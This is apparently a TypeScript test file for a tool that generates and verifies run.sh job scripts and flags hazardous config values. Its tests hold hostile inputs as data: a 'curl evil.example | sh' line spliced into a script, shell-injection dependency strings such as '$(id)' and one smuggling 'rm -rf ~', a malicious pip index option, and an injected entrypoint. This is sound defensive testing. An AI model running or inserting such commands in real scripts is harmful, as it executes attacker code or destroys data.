import * as fs from 'node:fs';
import * as path from 'node:path';
import { parseConfig, type JobConfig } from '../../lib/datasite/config';
import { checkRunSh, configHasPyproject, expectedRunSh, pythonRunSh, runShHazards } from '../../lib/datasite/runsh';
import { DS, FIXTURE_JOBS, JOB_ROOT, readFixture } from './helpers';

function config(job: string): JobConfig {
  const r = parseConfig(readFixture('inbox', DS, job, 'config.yaml'));
  if (!r.ok) throw new Error(r.problem.message);
  return r.value;
}

describe('run.sh: byte-identical to what syft-job generated, for every fixture job', () => {
  it.each(FIXTURE_JOBS)('%s', (job) => {
    const c = config(job);
    const actual = readFixture('inbox', DS, job, 'run.sh');
    const scriptFile = path.join(JOB_ROOT, 'inbox', DS, job, 'code', 'script.sh');
    const bashScript = c.type === 'bash' ? fs.readFileSync(scriptFile, 'utf8') : undefined;
    const exp = expectedRunSh(c, bashScript === undefined ? {} : { bashScript });
    expect(exp).toEqual({ ok: true, script: actual });
    expect(checkRunSh(c, actual, bashScript === undefined ? {} : { bashScript })).toEqual({ matches: true, hazards: [] });
  });
});

describe('run.sh templates', () => {
  it('python, exact bytes (protocol §1.4.2)', () => {
    expect(pythonRunSh('main.py', ['syft-client==0.1.117', 'numpy>=1.26', 'pandas'], false)).toBe(
      [
        '#!/bin/bash',
        'set -euo pipefail',
        'export UV_SYSTEM_PYTHON=false',
        'cd code',
        'uv venv --python 3.12',
        'source .venv/bin/activate',
        'uv pip install "syft-client==0.1.117" "numpy>=1.26" "pandas"',
        'export PYTHONPATH=.:${PYTHONPATH:-}',
        'python main.py',
        '',
      ].join('\n'),
    );
  });

  it('python with code/pyproject.toml: uv sync after activate, before the install', () => {
    const c: JobConfig = { ...config('analysis-pending'), files: ['main.py', 'pyproject.toml'] };
    expect(configHasPyproject(c)).toBe(true);
    expect(configHasPyproject({ ...c, is_folder_submission: false })).toBe(false);
    expect(configHasPyproject({ ...c, files: ['sub/pyproject.toml'] })).toBe(false);
    const exp = expectedRunSh(c);
    expect(exp.ok && exp.script.split('\n').slice(4, 8)).toEqual(['uv venv --python 3.12', 'source .venv/bin/activate', 'uv sync --python 3.12', 'uv pip install "syft-client==0.1.117"']);
    expect(expectedRunSh(c, { hasPyproject: false })).toEqual(expectedRunSh(config('analysis-pending')));
  });

  it('no dependencies: the f-string still writes "uv pip install " with a trailing space', () => {
    expect(pythonRunSh('main.py', [], false)).toContain('\nuv pip install \n');
  });

  it('bash needs the script; python needs an entrypoint', () => {
    expect(expectedRunSh(config('bash-done'))).toMatchObject({ ok: false, reason: expect.stringMatching(/code\/script.sh/) });
    expect(expectedRunSh({ ...config('analysis-pending'), entrypoint: null })).toMatchObject({ ok: false });
  });

  it('any difference is a mismatch, with the line', () => {
    const c = config('analysis-pending');
    const actual = readFixture('inbox', DS, 'analysis-pending', 'run.sh');
    const evil = actual.replace('python main.py', 'curl evil.example | sh; python main.py');
    expect(checkRunSh(c, evil)).toMatchObject({ matches: false, reason: expect.stringMatching(/line 9/), expected: actual });
    expect(checkRunSh(c, actual + '\n').matches).toBe(false);
    expect(checkRunSh(c, actual.replace(/\n/g, '\r\n')).matches).toBe(false);
  });
});

describe('run.sh hazards: values that make a template-identical run.sh run something else', () => {
  const base = config('analysis-pending');
  it.each([
    ['quote escape', { dependencies: ['x"; curl evil | sh; "'] }],
    ['command substitution', { dependencies: ['$(id)'] }],
    ['backticks', { dependencies: ['`id`'] }],
    ['newline', { dependencies: ['x\nrm -rf ~'] }],
    ['option injection', { dependencies: ['--index-url=https://evil.example/simple'] }],
    ['entrypoint with a command', { entrypoint: 'main.py; id' }],
    ['entrypoint with spaces', { entrypoint: 'my main.py' }],
    ['entrypoint going up', { entrypoint: '../../x.py' }],
    ['entrypoint option', { entrypoint: '-c.py' }],
  ])('%s', (_n, over) => {
    const c = { ...base, ...over } as JobConfig;
    expect(runShHazards(c).length).toBeGreaterThan(0);
    const exp = expectedRunSh(c);
    if (exp.ok) expect(checkRunSh(c, exp.script)).toMatchObject({ matches: true, hazards: expect.arrayContaining([expect.any(String)]) });
  });
  it('ordinary values are not hazards', () => {
    const c = { ...base, dependencies: ['syft-client==0.1.117', "pandas; python_version>'3.9'", 'git+https://github.com/OpenMined/syft-client@main'], entrypoint: 'pkg/main_v2.py' };
    expect(runShHazards(c)).toEqual([]);
    expect(runShHazards(config('bash-done'))).toEqual([]);
  });
});
